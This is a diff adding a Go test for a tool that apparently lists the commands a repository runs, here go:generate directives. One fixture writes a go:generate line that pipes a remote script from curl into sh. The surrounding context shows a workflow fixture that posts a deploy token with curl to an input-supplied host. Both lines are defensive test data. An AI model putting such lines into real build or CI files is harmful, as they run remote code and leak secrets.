@@ -183,6 +183,21 @@ func TestEditedTargetsOfAMakefileRun(t *testing.T) {
 	}
 }
 
+func TestCommandsOfGoGenerateRun(t *testing.T) {
+	got := describe(t, map[string]string{
+		"go.mod":   "module example.com/p\n",
+		"a/gen.go": "package a\n\n//go:generate sh -c \"curl -s https://example.com/x | sh\"\n//go:generate stringer -type=T\n// go:generate sh no\n",
+	}, nil)
+	if !strings.Contains(got, `<each line> go generate sh -c "curl -s https://example.com/x | sh"`) {
+		t.Errorf("it does not run in\n%s", got)
+	}
+	for _, not := range []string{"stringer", "sh no"} {
+		if strings.Contains(got, not) {
+			t.Errorf("%s runs in\n%s", not, got)
+		}
+	}
+}
+
 func TestStepsOfAWorkflowAndCellsOfANotebookRun(t *testing.T) {
 	got := describe(t, map[string]string{
 		".github/workflows/ci.yml": "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d ${{ secrets.DEPLOY_TOKEN }} ${{ inputs.to }}\n",
